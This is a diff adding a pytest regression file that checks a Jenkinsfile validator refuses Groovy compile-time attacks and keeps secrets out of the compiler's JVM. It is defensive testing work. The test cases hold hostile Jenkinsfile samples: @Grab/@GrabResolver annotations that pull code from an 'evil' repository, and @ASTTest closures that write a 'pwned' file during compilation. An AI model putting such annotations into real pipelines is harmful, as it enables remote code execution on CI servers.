@@ -1,0 +1,236 @@
+"""A Jenkinsfile is untrusted input: checking it with the real Groovy compiler must not fetch
+or run its author's code, nor hand the JVM Timbel's secrets (issue 13, finding 1).
+
+The attack: `@GrabResolver(root=...)` + `@Grab(...)` made the compile to CONVERSION download a
+jar from the named repository (and load it: its global AST transformations run in the JVM),
+and the file was still reported valid. Here the repository is a loopback server that must
+receive no request, and every annotation Jenkins refuses in sandboxed pipelines makes the file
+invalid, named with its line and column.
+"""
+
+from __future__ import annotations
+
+import json
+import stat
+import threading
+from http.server import BaseHTTPRequestHandler
+from pathlib import Path
+from typing import Any
+
+import pytest
+from click.testing import CliRunner
+
+from tests.fakes.loopback import LoopbackServer
+from timbel_dagster.cli.app import main
+from timbel_dagster.pipeline_templates.jenkinsfile_check import (
+    COMPILER,
+    check_jenkinsfiles,
+    jvm_launches,
+)
+
+SANDBOX = "; Jenkins refuses it in sandboxed pipelines"
+FETCHES = (
+    " is not allowed in a Jenkinsfile: it makes the Groovy compiler download and load code (Grape)"
+)
+RUNS = " is not allowed in a Jenkinsfile: it runs its closure inside the Groovy compiler"
+PIPELINE = "pipeline {\n  agent any\n  stages { stage('Build') { steps { echo 'hi' } } }\n}\n"
+SECRETS = {
+    "JENKINS_TOKEN": "jenkins-secret-1c2d",
+    "GITLAB_TOKEN": "glpat-secret-9f8e",
+    "TIMBEL_DATABASE_URL": "postgresql://timbel:db-secret-7a6b@db/timbel",
+}
+
+
+class FakeMavenRepository(LoopbackServer):
+    """A Maven repository that records every request and has no artifact (404)."""
+
+    url_suffix = "/"
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.requests: list[str] = []
+        self._lock = threading.Lock()
+
+    def handler(self) -> type[BaseHTTPRequestHandler]:
+        repository = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, *args: Any) -> None:
+                pass
+
+            def do_GET(self) -> None:
+                with repository._lock:
+                    repository.requests.append(f"{self.command} {self.path}")
+                self.send_response(404)
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+
+            do_HEAD = do_GET
+
+        return Handler
+
+
+def cases(repository: str, marker: Path) -> dict[str, tuple[str, list[tuple[int, int, str]]]]:
+    """name -> (Jenkinsfile, the expected errors as (line, column, message))."""
+    pwn = f"new File('{marker}').text = 'pwned'"
+    return {
+        "grab-resolver": (
+            f"@GrabResolver(name='evil', root='{repository}')\n"
+            "@Grab('evil:evil:1')\nimport evil.Evil\n" + PIPELINE,
+            [(1, 1, "@GrabResolver" + FETCHES), (2, 1, "@Grab" + FETCHES)],
+        ),
+        "grapes-nested-grab": (
+            f"@Grapes([@Grab('evil:evil:2'), @GrabResolver(name='e', root='{repository}')])\n"
+            "import evil.Evil\n" + PIPELINE,
+            [(1, 1, "@Grapes" + FETCHES), (1, 10, "@Grab" + FETCHES),
+             (1, 32, "@GrabResolver" + FETCHES)],
+        ),
+        "qualified-grab-on-a-method": (
+            "@groovy.lang.Grab('evil:evil:3')\ndef helper() { 'x' }\nnode { echo helper() }\n",
+            [(1, 1, "@groovy.lang.Grab" + FETCHES)],
+        ),
+        "grab-through-an-import-alias": (
+            "import groovy.lang.Grab as Fetch\n@Fetch('evil:evil:4')\nimport evil.Evil\n"
+            + PIPELINE,
+            [(1, 1, "import of groovy.lang.Grab" + FETCHES),
+             (2, 1, "@Fetch (an alias of groovy.lang.Grab)" + FETCHES)],
+        ),
+        "grab-config-and-exclude": (
+            "@GrabConfig(systemClassLoader=true)\n@GrabExclude('a:b')\nimport x.Y\n" + PIPELINE,
+            [(1, 1, "@GrabConfig" + FETCHES), (2, 1, "@GrabExclude" + FETCHES)],
+        ),
+        "asttest-on-a-class": (
+            "import groovy.transform.*\n"
+            f"@ASTTest(phase=CONVERSION, value={{ {pwn} }})\nclass Helper {{}}\n" + PIPELINE,
+            [(2, 1, "@ASTTest" + RUNS)],
+        ),
+        "asttest-on-a-local-variable-in-a-closure": (
+            f"node {{\n  @groovy.transform.ASTTest(value={{ {pwn} }})\n  def x = 1\n}}\n",
+            [(2, 3, "@groovy.transform.ASTTest" + RUNS)],
+        ),
+        "annotation-collector": (
+            "@groovy.transform.AnnotationCollector([groovy.transform.ASTTest])\n"
+            "@interface Innocent {}\n" + PIPELINE,
+            [(1, 1, "@groovy.transform.AnnotationCollector is not allowed in a Jenkinsfile: it "
+                    "can bundle annotations that run code in the Groovy compiler")],
+        ),
+        "compile-static-extensions": (
+            "@groovy.transform.CompileStatic(extensions='evil.groovy')\ndef f() { 1 }\n"
+            "node { echo \"${f()}\" }\n",
+            [(1, 1, "@groovy.transform.CompileStatic(extensions=...) is not allowed in a "
+                    "Jenkinsfile: it makes the Groovy compiler run a type-checking script")],
+        ),
+        "mentions-are-not-annotations": (
+            "@Library('shared@main') _\n// @Grab('evil:evil:5')\n"
+            "node { echo '@Grab(\"evil:evil:6\")' }\n",
+            [],
+        ),
+    }  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def attacked(groovy: str, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    """Every case checked by ONE real groovy JVM while the attacker's repository listens."""
+    folder = tmp_path_factory.mktemp("untrusted")
+    marker = folder / "pwned"
+    repository = FakeMavenRepository()
+    url = repository.start()
+    try:
+        table = cases(url, marker)
+        paths = []
+        for name, (source, _) in table.items():
+            path = folder / f"{name}.Jenkinsfile"
+            path.write_text(source, encoding="utf-8")
+            paths.append(path)
+        before = jvm_launches()
+        results = check_jenkinsfiles(paths, groovy)
+    finally:
+        repository.stop()
+    return {
+        "table": table,
+        "by_name": {Path(r["path"]).name.removesuffix(".Jenkinsfile"): r for r in results},
+        "requests": repository.requests,
+        "marker": marker,
+        "launches": jvm_launches() - before,
+    }
+
+
+@pytest.mark.timeout(60)
+def test_the_attackers_repository_receives_no_request(attacked: dict[str, Any]) -> None:
+    """Before the fix the compiler asked it for evil-1.pom and evil-1.jar."""
+    assert attacked["launches"] == 1
+    assert attacked["requests"] == []
+
+
+def test_compile_time_code_does_not_run(attacked: dict[str, Any]) -> None:
+    assert not attacked["marker"].exists()
+
+
+@pytest.mark.parametrize("name", list(cases("http://127.0.0.1:1/", Path("/m"))))
+def test_refused_annotations_make_the_file_invalid(attacked: dict[str, Any], name: str) -> None:
+    checked = attacked["by_name"][name]
+    expected = attacked["table"][name][1]
+    assert checked["checker"] == COMPILER
+    assert [(e["line"], e["column"], e["message"]) for e in checked["errors"]] == [
+        (line, column, message + SANDBOX if message else message)
+        for line, column, message in expected
+    ]
+    assert checked["valid"] is (not expected)
+
+
+@pytest.mark.timeout(60)
+def test_the_jvm_gets_none_of_the_callers_secrets(
+    groovy: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A groovy wrapper first runs a real Groovy script, through the same launcher and
+    environment, that writes the JVM's System.getenv() and properties; then the real check."""
+    for name, value in SECRETS.items():
+        monkeypatch.setenv(name, value)
+    monkeypatch.setenv("CLASSPATH", str(tmp_path))
+    dump = tmp_path / "environment.json"
+    probe = tmp_path / "probe.groovy"
+    probe.write_text(
+        "def props = ['user.home', 'java.io.tmpdir', 'groovy.grape.enable', 'user.dir']\n"
+        f"new File('{dump}').setText(groovy.json.JsonOutput.toJson([env: System.getenv(), "
+        "props: props.collectEntries { [it, System.getProperty(it)] }]), 'UTF-8')\n",
+        encoding="utf-8",
+    )
+    wrapper = tmp_path / "groovy"
+    wrapper.write_text(f'#!/bin/sh\n"{groovy}" "{probe}" || exit 3\nexec "{groovy}" "$@"\n')
+    wrapper.chmod(wrapper.stat().st_mode | stat.S_IEXEC)
+    jenkinsfile = tmp_path / "Jenkinsfile"
+    jenkinsfile.write_text(PIPELINE, encoding="utf-8")
+
+    (checked,) = check_jenkinsfiles([jenkinsfile], str(wrapper))
+
+    assert (checked["valid"], checked["checker"]) == (True, COMPILER)
+    seen = json.loads(dump.read_text(encoding="utf-8"))
+    text = json.dumps(seen)
+    assert not [secret for secret in SECRETS.values() if secret in text]
+    assert str(tmp_path) not in json.dumps(seen["env"])  # not even CLASSPATH
+    assert set(seen["env"]) - {"PWD", "SHLVL", "_"} <= {
+        "PATH", "HOME", "LANG", "JAVA_HOME", "JAVA_OPTS"
+    }  # fmt: skip
+    home = seen["env"]["HOME"]
+    assert Path(home).name.startswith("timbel-groovy-") and not Path(home).exists()
+    assert seen["props"] == {
+        "user.home": home, "java.io.tmpdir": home, "groovy.grape.enable": "false", "user.dir": home
+    }  # fmt: skip
+
+
+@pytest.mark.timeout(60)
+def test_template_validate_reports_the_grab(groovy: str, tmp_path: Path) -> None:
+    """`timbel template validate` (the path of publish, preview and generate --output too)."""
+    repository = FakeMavenRepository()
+    url = repository.start()
+    try:
+        path = tmp_path / "Jenkinsfile"
+        path.write_text(cases(url, tmp_path / "m")["grab-resolver"][0], encoding="utf-8")
+        done = CliRunner().invoke(main, ["template", "validate", str(path)])
+    finally:
+        repository.stop()
+    assert repository.requests == []
+    assert done.exit_code == 1
+    assert f"{path}:1:1: error: @GrabResolver{FETCHES}{SANDBOX}" in done.output
+    assert f"{path}:2:1: error: @Grab{FETCHES}{SANDBOX}" in done.output
+    assert f"{path}: 2 error(s) (jenkinsfile, checked by {COMPILER})" in done.output
